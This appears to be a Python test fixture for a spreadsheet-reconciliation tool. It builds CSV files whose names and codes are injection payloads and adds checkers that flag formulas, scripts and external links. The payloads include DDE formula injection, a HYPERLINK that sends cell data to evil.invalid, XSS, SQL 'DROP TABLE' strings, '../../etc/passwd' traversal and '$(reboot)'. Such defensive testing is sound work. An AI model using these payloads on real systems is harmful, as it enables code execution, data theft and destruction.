"""A workspace of two systems, both spreadsheets, whose names and texts are attacks."""

from __future__ import annotations

import csv
import html.parser
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

FORMULAS = (
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3+cmd",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "＝cmd|x",
    "＋1+1",
    "－2+3",
    "＠SUM(1)",
    "\u3000=1+1",
    "　＝1+1",
    '=DDE("a";"b")',
)
MARKUP = (
    "<script>alert(1)</script>有限公司",
    '"><img src=x onerror=alert(1)>',
    "</title></style><svg onload=alert(1)>",
    "javascript:alert(1)//公司",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "[bold red]甲公司[/bold red]",
    "甲&amp;乙&lt;b&gt;公司",
)
SQL = (
    "'; DROP TABLE observed; --",
    '" OR 1=1 --',
    "100%_\\公司",
    "Robert'); DELETE FROM audit;--",
    ":name %(name)s ? $1",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    ".hidden",
    "CON",
    "NUL.xlsx",
    "a/b",
    "a_b",
    "~root",
    "$(reboot)",
    "长" * 66,
    "-rf",
    "a b\u202excod.exe",
)
NAMES = (*FORMULAS, *MARKUP, *SQL, *PATHS)
TOML = """
[workspace]
name = "=cmd|'/C calc'!A0 <script>alert(2)</script>"

[identity]
lead = "books"

[systems.books]
connector = "sheets"
[[systems.books.settings.files]]
path = "books_customers.csv"
kind = "customer"
[[systems.books.settings.files]]
path = "books_invoices.csv"
kind = "invoice"
[[systems.books.settings.files]]
path = "books_payments.csv"
kind = "payment"

[systems.crm]
connector = "sheets"
[[systems.crm.settings.files]]
path = "crm_customers.csv"
kind = "customer"
[[systems.crm.settings.files]]
path = "crm_invoices.csv"
kind = "invoice"
"""


def make(folder: Path) -> Path:
    """Write the workspace: every attack once as a customer's name and once as its code, numbers and texts alike."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "ledgerbridge.toml").write_text(TOML, "utf-8")
    customers, invoices, others, payments = [], [], [], []
    for at, name in enumerate(NAMES, 1):
        code = name if name in PATHS or name in SQL else f"C{at:03}"
        customers.append([code, name])
        invoices.append([f"{name}-{at}"[:150], "2026-10-05", "2026-11-05", code, name, "113.00", name])
        others.append([f"{name}-{at}"[:150], "2026-10-05", "2026-11-05", code, name, "114.00", name])
        payments.append([f"R{at}", "2026-10-20", code, name, "50.00", name])
    customers.append(["", "no code"])
    write(folder / "books_customers.csv", ["客户编码", "客户名称"], customers)
    write(folder / "crm_customers.csv", ["客户编码", "客户名称"], customers[: len(NAMES) // 2])
    head = ["单据号", "开票日期", "到期日", "客户编码", "客户名称", "价税合计", "备注"]
    write(folder / "books_invoices.csv", head, [*invoices, ["=1+1", "no date", "", "C001", "x", "1", ""]])
    write(folder / "crm_invoices.csv", head, others)
    write(folder / "books_payments.csv", ["收款单号", "收款日期", "客户编码", "客户名称", "金额", "摘要"], payments)
    return folder


def write(path: Path, head: list[str], rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows([head, *rows])


def formula_faults(path: Path) -> Iterator[str]:
    """What of a file a spreadsheet would work out, follow, or run."""
    if path.suffix == ".xlsx":
        yield from _workbook_faults(path)
    elif path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    if re.match("[ \u3000]*[=+\\-@\t\r\n＝＋－＠]", cell) and not re.fullmatch(r"-?[\d.]+", cell):
                        yield f"{path.name}: {cell!r}"


OWN_FORMULA = re.compile(r"<f>(?:SUM|SUMIF|SUBTOTAL|COUNTIF)\([A-Z0-9$:,.\"' >=&一-龥!]*\)</f>")
"""Sums that our own reports hold: of ranges only, no text of anybody's."""


def _workbook_faults(path: Path) -> Iterator[str]:
    with zipfile.ZipFile(path) as packed:
        for member in packed.namelist():
            content = packed.read(member).decode("utf-8", "replace")
            for formula in re.findall(r"<f[ >].*?</f>", content):
                if not OWN_FORMULA.fullmatch(formula):
                    yield f"{path.name}/{member}: {formula}"
            if "externalLink" in member or "vbaProject" in member:
                yield f"{path.name}: {member}"
            if member.endswith(".rels") and 'TargetMode="External"' in content:
                yield f"{path.name}/{member}: an external link"


class _Page(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.text = io.StringIO()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "iframe", "object", "embed", "form", "base", "link", "a"}:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            outside = re.match(r"\s*(https?:|javascript:|//|data:text)", value or "", re.IGNORECASE)
            if (
                name.startswith("on")
                or (name in {"src", "href", "action"} and outside)
                or (tag == "img" and value == "x")
            ):
                self.faults.append(f"<{tag} {name}={value!r}>")

    def handle_data(self, data: str) -> None:
        self.text.write(data)


def page_faults(content: str) -> tuple[list[str], str]:
    """What of a page a browser would run or fetch, and the page's text as it is read."""
    page = _Page()
    page.feed(content)
    page.close()
    return page.faults, page.text.getvalue()
